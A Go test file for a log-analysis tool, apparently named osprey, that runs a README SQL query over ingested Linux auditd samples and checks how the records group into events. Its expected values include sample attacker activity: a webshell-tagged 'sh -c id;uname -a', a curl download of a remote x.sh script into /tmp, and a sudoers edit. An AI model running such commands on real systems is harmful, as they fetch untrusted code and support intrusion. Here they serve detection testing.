package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// readmeSQL returns the first sql block of README.md after the heading.
func readmeSQL(t *testing.T, heading string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "..", "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, after, ok := strings.Cut(string(data), "\n"+heading+"\n")
	if !ok {
		t.Fatalf("README.md has no heading %q", heading)
	}
	_, block, ok := strings.Cut(after, "```sql\n")
	if !ok {
		t.Fatalf("README.md has no sql block after %q", heading)
	}
	sql, _, ok := strings.Cut(block, "```")
	if !ok {
		t.Fatalf("README.md: the sql block after %q is not closed", heading)
	}
	return sql
}

// The README's query of Linux audit events, run on the samples: the records sharing
// msg=audit(time:serial) make one row, with the SYSCALL's, CWD's, PATHs' and PROCTITLE's values.
func TestReadmeAuditEvents(t *testing.T) {
	dir := t.TempDir()
	lakeDir := filepath.Join(dir, "lake")
	query := filepath.Join(dir, "audit_events.sql")
	if err := os.WriteFile(query, []byte(readmeSQL(t, "#### Linux audit events")), 0o644); err != nil {
		t.Fatal(err)
	}
	samples := filepath.Join("..", "..", "testdata", "samples")
	ospreyStdout(t, "ingest", "--lake", lakeDir, "-t", "Linux.Auditd",
		filepath.Join(samples, "linux_auditd.log"), filepath.Join(samples, "linux_auditd.enriched.log"))
	out := ospreyStdout(t, "sql", "--lake", lakeDir, "-f", query, "--format", "json")

	type event struct {
		Node      string   `json:"node"`
		EventID   string   `json:"eventId"`
		Records   []string `json:"records"`
		Syscall   *string  `json:"syscall"`
		Success   *string  `json:"success"`
		Auid      *string  `json:"auid"`
		UID       *string  `json:"uid"`
		Exe       *string  `json:"exe"`
		Key       *string  `json:"key"`
		Cwd       *string  `json:"cwd"`
		Paths     []string `json:"paths"`
		Proctitle *string  `json:"proctitle"`
	}
	var events []event
	if err := json.Unmarshal([]byte(out), &events); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	byID := map[string]event{}
	for _, e := range events {
		if _, dup := byID[e.Node+"/"+e.EventID]; dup {
			t.Errorf("event %s of %q is two rows", e.EventID, e.Node)
		}
		byID[e.Node+"/"+e.EventID] = e
	}
	// 28 records of linux_auditd.log in 20 events, 12 of the enriched sample in 3.
	if len(events) != 23 {
		t.Errorf("%d events, want 23", len(events))
	}
	str := func(p *string) string {
		if p == nil {
			return "NULL"
		}
		return *p
	}
	for _, want := range []struct {
		id                                                    string
		records                                               []string
		syscall, success, auid, uid, exe, key, cwd, proctitle string
		paths                                                 []string
	}{
		{"1425", []string{"CWD", "EOE", "PATH", "PATH", "PROCTITLE", "SYSCALL"},
			"257", "yes", "1001", "0", "/usr/bin/vim.basic", "sudoers_change", "/home/deploy", "vi /etc/sudoers",
			[]string{"/etc/", "/etc/sudoers"}},
		{"1702", []string{"EXECVE", "PROCTITLE", "SYSCALL"},
			"59", "yes", "4294967295", "33", "/usr/bin/dash", "webshell", "NULL", "sh -c id;uname -a", nil},
		{"3301", []string{"CWD", "EOE", "EXECVE", "PATH", "PATH", "PROCTITLE", "SYSCALL"},
			"59", "yes", "1000", "1000", "/usr/bin/curl", "exec", "/home/alice/my projects", "curl -o /tmp/my file http://198.51.100.7/x.sh",
			[]string{"/usr/bin/curl", "/lib64/ld-linux-x86-64.so.2"}},
		{"1305", []string{"USER_LOGIN"},
			"NULL", "NULL", "4294967295", "0", "/usr/sbin/sshd", "NULL", "NULL", "NULL", nil},
	} {
		got, ok := byID["/"+want.id]
		if !ok {
			t.Errorf("no event %s in %s", want.id, out)
			continue
		}
		if strings.Join(got.Records, ",") != strings.Join(want.records, ",") {
			t.Errorf("event %s: records %v, want %v", want.id, got.Records, want.records)
		}
		for _, f := range []struct{ name, got, want string }{
			{"syscall", str(got.Syscall), want.syscall},
			{"success", str(got.Success), want.success},
			{"auid", str(got.Auid), want.auid},
			{"uid", str(got.UID), want.uid},
			{"exe", str(got.Exe), want.exe},
			{"key", str(got.Key), want.key},
			{"cwd", str(got.Cwd), want.cwd},
			{"proctitle", str(got.Proctitle), want.proctitle},
		} {
			if f.got != f.want {
				t.Errorf("event %s: %s = %q, want %q", want.id, f.name, f.got, f.want)
			}
		}
		if strings.Join(got.Paths, ",") != strings.Join(want.paths, ",") {
			t.Errorf("event %s: paths %q, want %q", want.id, got.Paths, want.paths)
		}
	}
	if e, ok := byID["web01.example.net/1900"]; !ok || strings.Join(e.Records, ",") != "USER_END" {
		t.Errorf("event 1900 of node web01.example.net: %+v (found %v)", e, ok)
	}
}
